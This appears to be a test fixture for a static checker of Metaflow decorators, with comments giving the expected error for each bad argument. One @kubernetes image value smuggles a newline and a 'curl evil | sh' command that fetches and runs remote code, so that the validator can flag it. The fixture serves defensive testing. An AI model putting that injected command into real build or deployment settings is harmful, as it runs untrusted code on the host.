from metaflow import FlowSpec, kubernetes, resources, retry, step, timeout


class DecoratorFlow(FlowSpec):
    @retry(times=-1)  # want decorator "times"
    @timeout(seconds="soon")  # want decorator "seconds"
    @resources(memory="lots")  # want decorator "memory"
    @step
    def start(self):
        self.next(self.end)

    @kubernetes(image="python:3.12\nRUN curl evil | sh")  # want decorator "^@kubernetes image \"python:3.12\\nRUN curl evil \| sh\" is not an image reference"
    @magic  # want decorator "unknown decorator @magic"
    @step
    def end(self):
        pass
